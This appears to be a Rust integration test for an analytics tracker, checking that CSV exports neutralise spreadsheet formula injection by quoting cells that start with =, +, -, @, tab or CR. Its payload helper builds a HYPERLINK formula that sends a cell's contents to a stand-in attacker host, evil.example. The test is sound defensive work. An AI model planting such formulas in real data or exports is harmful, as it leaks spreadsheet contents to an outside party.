//! Finding 3 (CSV formula injection): visitor-controlled text (event names, utm values, ...) reached every CSV
//! export verbatim, so a cell such as `=HYPERLINK(...)` ran as a formula when the owner opened the file in a
//! spreadsheet. Every CSV export (both API routes and `tracker export`) now writes a cell that starts with
//! `=`, `+`, `-`, `@`, a tab or a carriage return with a leading `'`; every other cell is written as stored, and
//! the JSON exports (data, not spreadsheets) stay verbatim.

use std::collections::HashMap;
use std::process::{Command, Stdio};

use reqwest::StatusCode;
use serde_json::{Value, json};

use crate::util::{TestServer, tracker_bin};

/// The first characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// A payload starting with `first`, as an attacker would send it.
fn payload(first: char) -> String {
    format!("{first}HYPERLINK(\"https://evil.example/?leak=\"&A1,\"open\")")
}

/// Every byte but letters and digits as `%XX`, for a query string value.
fn percent_encoded(text: &str) -> String {
    text.bytes()
        .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
        .collect()
}

/// The CSV's rows as column name → cell.
fn csv_rows(text: &str) -> Vec<HashMap<String, String>> {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers: Vec<String> = reader.headers().unwrap().iter().map(str::to_string).collect();
    reader
        .records()
        .map(|record| headers.iter().cloned().zip(record.unwrap().iter().map(str::to_string)).collect())
        .collect()
}

/// The CSV column of a JSON export field.
fn json_field(column: &str) -> &str {
    match column {
        "session_id" => "sessionId",
        "utm_source" => "utmSource",
        "utm_medium" => "utmMedium",
        "utm_campaign" => "utmCampaign",
        other => other,
    }
}

/// Checks a CSV export cell by cell against the JSON export of the same rows (oldest first in both): a cell
/// that starts a formula gets one leading `'`, every other cell is exactly the stored text. Returns how many
/// cells were quoted.
fn assert_neutralised(what: &str, csv_text: &str, json_rows: &[Value]) -> usize {
    let rows = csv_rows(csv_text);
    assert_eq!(rows.len(), json_rows.len(), "{what}: row count");
    let mut quoted = 0;
    for (n, (row, stored)) in rows.iter().zip(json_rows).enumerate() {
        for (column, cell) in row {
            let stored_text = match (column.as_str(), &stored[json_field(column)]) {
                // The CSV holds the properties' JSON text; JSON exports hold the object.
                ("properties", Value::Null) => String::new(),
                ("properties", object) => {
                    assert_eq!(&serde_json::from_str::<Value>(cell).unwrap(), object, "{what} row {n}");
                    assert!(cell.starts_with('{'), "{what} row {n}: properties are an object");
                    continue;
                }
                (_, Value::String(text)) => text.clone(),
                (_, other) => panic!("{what} row {n}: {column} is {other}"),
            };
            if stored_text.starts_with(FORMULA_STARTS) {
                assert_eq!(cell, &format!("'{stored_text}"), "{what} row {n}: {column} must be quoted");
                quoted += 1;
            } else {
                assert_eq!(cell, &stored_text, "{what} row {n}: {column} must stay as stored");
            }
        }
    }
    quoted
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn csv_exports_quote_cells_that_a_spreadsheet_would_run_as_formulas() {
    let server = TestServer::start().await;
    let (token, _) = server.register("csv@example.com").await;
    let site = server.create_site(&token, "Formulas", "light").await;
    let id = site["id"].as_i64().unwrap();
    let key = site["trackingKey"].as_str().unwrap().to_string();

    // URLs and referrers must be http(s) URLs, so those cells can never start a formula.
    for (field, value) in [("url", payload('=')), ("referrer", payload('@')), ("url", format!("\t{}", payload('+')))] {
        let mut body =
            json!({"tracking_key": key, "session_id": "csv-refused", "url": "https://formulas.example.com/"});
        body[field] = json!(value);
        let answer = server.track(body).await;
        assert_eq!(answer.status, StatusCode::BAD_REQUEST, "{field} {value:?}: {}", answer.text);
    }

    for (i, first) in FORMULA_STARTS.into_iter().enumerate() {
        let text = payload(first);
        let encoded = percent_encoded(&text);
        let session = format!("csv-formula-{i}");
        // The landing page carries the utm values of the visit; `=` inside a URL or referrer is harmless.
        let landing = format!(
            "https://formulas.example.com/landing?utm_source={encoded}&utm_medium={encoded}&utm_campaign={encoded}"
        );
        let pageview = server
            .track(json!({"tracking_key": key, "session_id": session, "url": landing,
                "referrer": "https://search.example.net/?q==1+1"}))
            .await;
        assert_eq!(pageview.status, StatusCode::ACCEPTED, "{}", pageview.text);
        // Event names are trimmed, so a leading tab or CR cannot reach them; the other four can.
        let name = if first.is_whitespace() { format!("-{i}") } else { text.clone() };
        let event = server
            .track(json!({"tracking_key": key, "session_id": session, "url": "https://formulas.example.com/landing",
                "event": "custom", "event_name": name, "event_properties": {"note": text, "n": -5}}))
            .await;
        assert_eq!(event.status, StatusCode::ACCEPTED, "{}", event.text);
    }
    let harmless = server
        .track(json!({"tracking_key": key, "session_id": "csv-harmless", "url": "https://formulas.example.com/?a=b",
            "event": "custom", "event_name": "signup '=1+1", "event_properties": {"plan": "=pro"}}))
        .await;
    assert_eq!(harmless.status, StatusCode::ACCEPTED, "{}", harmless.text);

    let as_json = server.get(&format!("/api/websites/{id}/export?format=json"), &token).await;
    assert_eq!(as_json.status, StatusCode::OK, "{}", as_json.text);
    let stored = as_json.json.as_array().unwrap().clone();
    assert_eq!(stored.len(), 13);
    for first in FORMULA_STARTS {
        assert!(stored.iter().any(|r| r["utmSource"] == payload(first)), "JSON keeps the stored text verbatim");
    }

    // 6 visits × 2 rows × 3 utm cells, plus the 6 event names (4 payloads, 2 negative numbers).
    let expected_quoted = 6 * 2 * 3 + 6;
    let api = server.get(&format!("/api/websites/{id}/export?format=csv"), &token).await;
    assert_eq!(api.status, StatusCode::OK, "{}", api.text);
    assert_eq!(assert_neutralised("API site export", &api.text, &stored), expected_quoted);

    let events = server.get(&format!("/api/export/events?website_id={id}"), &token).await;
    assert_eq!(events.status, StatusCode::OK, "{}", events.text);
    // Newest first; the JSON rows of the same kind, reversed, line up with it.
    let stored_events: Vec<Value> = stored.iter().filter(|r| r["type"] != "pageview").rev().cloned().collect();
    assert_eq!(assert_neutralised("API events export", &events.text, &stored_events), 6 * 3 + 6);

    let data = server.dir.path().join("data");
    let cli = tokio::task::spawn_blocking(move || {
        Command::new(tracker_bin())
            .arg("--data-dir")
            .arg(&data)
            .args(["export", "--site", &id.to_string(), "--format", "csv"])
            .stdin(Stdio::null())
            .output()
            .expect("run tracker export")
    })
    .await
    .unwrap();
    assert!(cli.status.success(), "{}", String::from_utf8_lossy(&cli.stderr));
    let cli_text = String::from_utf8(cli.stdout).unwrap();
    assert_eq!(assert_neutralised("tracker export", &cli_text, &stored), expected_quoted);
    server.stop().await;
}
